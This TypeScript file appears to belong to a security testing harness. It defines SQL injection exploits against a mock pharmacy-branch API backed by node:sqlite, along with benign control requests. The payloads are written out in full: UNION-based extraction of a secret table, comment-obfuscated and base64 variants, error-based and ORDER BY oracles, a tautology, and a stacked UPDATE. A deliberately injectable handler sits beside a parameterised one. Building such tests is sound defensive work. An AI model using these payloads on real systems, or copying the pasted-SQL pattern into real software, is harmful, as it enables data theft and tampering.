import type { DatabaseSync } from 'node:sqlite';
import type { Step } from '../flaws/flaw.ts';
import { type Answer, json, noContent, problem } from '../http/answer.ts';
import { type Asked, asking, defineAttack, type Exploit, posting, type Stage, showing } from './attack.ts';
import { openBranches, vault } from './sql/branches.ts';
import { columns, type Place, places, valueAt } from './sql/places.ts';

const valueLengthMax = 4000;
const base = '/v1/tools';
const [first, ...others] = places.map(({ operation }) => operation);
const code = `SELECT ${vault.column} FROM ${vault.table}`;
const union = ` UNION SELECT 1, ${vault.column}, 1 FROM ${vault.table}--`;

/** Branches of a pharmacy by SQLite, from every place of a request that can become a part of a statement. */
export const sqlInjection = defineAttack({
  id: 'sql-injection',
  title: 'A value is pasted into a statement of SQL',
  cwe: 'CWE-89',
  finding: 'attack.sql-injection',
  interpreter: 'node:sqlite',
  operations: [first as (typeof places)[number]['operation'], ...others],
  open: openDatabase,
  exploits: [
    exploit('rows of another table behind a string', asking(`${base}/branches`, { city: `'${union}` })),
    exploit('rows of another table, with comments for blanks', asking(`${base}/branches`, { city: `'${union.replaceAll(' ', '/**/')}` })),
    exploit('rows of another table behind a number', asking(`${base}/branches/${encodeURIComponent(`0${union}`)}`, {})),
    exploit('rows of another table behind a pattern', asking(`${base}/branch-search`, { q: `%'${union}` })),
    exploit('rows of another table in a JSON body', posting(`${base}/branch-lookup`, { city: `')${union}` })),
    exploit('rows of another table by a header', { ...asking(`${base}/branch-region`, {}), headers: { 'x-region': `'${union}` } }),
    exploit('rows of another table by a cookie', {
      ...asking(`${base}/branch-own`, {}),
      headers: { cookie: `branch=${encodeURIComponent(`'${union}`)}` },
    }),
    exploit('rows of another table in base64', asking(`${base}/branch-import`, { city: Buffer.from(`'${union}`).toString('base64') })),
    exploit('a query where a column belongs', asking(`${base}/branch-column`, { column: code })),
    exploit('a query joined to a column', asking(`${base}/branch-column`, { column: `name||(${code})` })),
    exploit('a message of the database', asking(`${base}/branches`, { city: `Norwich' AND json_extract('{}', (${code}))--` })),
    exploit('all rows, by a condition that always holds', asking(`${base}/branches`, { city: "' OR 'a'='a" }), { sign: 'Riverside' }),
    exploit(
      'an order that tells of another table',
      asking(`${base}/branch-first`, { sort: `(CASE WHEN (${code} LIMIT 1) LIKE '5%' THEN -id ELSE id END)` }),
      { sign: 'Old Market' },
    ),
    {
      name: 'another statement behind the first',
      steps: [visiting(`'; UPDATE branches SET name = (${code}) WHERE id = 1--`), asking(`${base}/branches`, { city: 'Norwich' })],
      works: showing(vault.codes[0]),
    },
  ],
  ordinary: [
    asking(`${base}/branches`, { city: 'Norwich' }),
    asking(`${base}/branches`, { city: 'Stoke-on-Trent -- north' }),
    asking(`${base}/branches/3`, {}),
    asking(`${base}/branch-first`, { sort: 'city' }),
    asking(`${base}/branch-column`, { column: 'name' }),
    posting(`${base}/branch-lookup`, { city: 'York' }),
    asking(`${base}/branch-open`, { city: "King's Lynn or Ely" }),
    visiting("Bishop's Stortford"),
    asking(`${base}/branch-search`, { q: '100% union of select shops' }),
    asking(`${base}/branch-open`, { city: 'York' }),
    visiting('York'),
    { ...asking(`${base}/branch-region`, {}), headers: { 'x-region': 'Lincoln' } },
    { ...asking(`${base}/branch-own`, {}), headers: { cookie: 'branch=Old%20Market' } },
    asking(`${base}/branch-import`, { city: 'Tm9yd2ljaA==' }),
  ],
});

function exploit(name: string, step: Step, { sign = vault.codes[0] }: { readonly sign?: string } = {}): Exploit {
  return { name, steps: [step], works: showing(sign) };
}

function visiting(city: string): Step {
  return { as: 'anonymous', method: 'POST', path: `${base}/branch-visits?${new URLSearchParams({ city }).toString()}` };
}

function openDatabase(): Stage {
  const database = openBranches();
  return {
    answer: (asked, isFlawed) => answered(database, asked, isFlawed),
    close: async () => database.close(),
  };
}

function answered(database: DatabaseSync, asked: Asked, isFlawed: boolean): Answer {
  const place: Place | undefined = places.find(({ operation }) => operation === asked.operation);
  if (place === undefined) throw new Error(`no place for ${asked.operation}`);
  const value = valueAt(place, asked);
  if (value === null || value.length === 0 || value.length > valueLengthMax)
    return problem(400, 'invalid request', `give a text of 1 to ${valueLengthMax} characters as ${place.parameter}`);
  try {
    const rows = isFlawed ? pasted(database, place, value) : bound(database, place, value);
    if (rows === null) return problem(400, 'invalid request', `${place.parameter} must be one of ${columns.join(', ')}`);
    if (place.isScript) return noContent();
    return json(200, place.isSilent ? { isOpen: true } : { items: rows });
  } catch (error) {
    if (place.isScript) return noContent();
    if (place.isSilent) return json(200, { isOpen: true });
    const message = error instanceof Error ? error.message : 'unknown';
    return problem(500, 'internal error', `SQLITE_ERROR: ${message}`);
  }
}

/** `exec` runs one statement behind the other, which `prepare` does not. */
function pasted(database: DatabaseSync, place: Place, value: string): readonly unknown[] {
  const statement = place.pasted(value);
  if (!place.isScript) return database.prepare(statement).all();
  database.exec(statement);
  return [];
}

/** Null where a value cannot be bound, as the name of a column, and is none of those there are. */
function bound(database: DatabaseSync, place: Place, value: string): readonly unknown[] | null {
  if (place.bound !== undefined) return database.prepare(place.bound).all(place.binds?.(value) ?? value);
  return columns.includes(value) ? database.prepare(place.pasted(value)).all() : null;
}
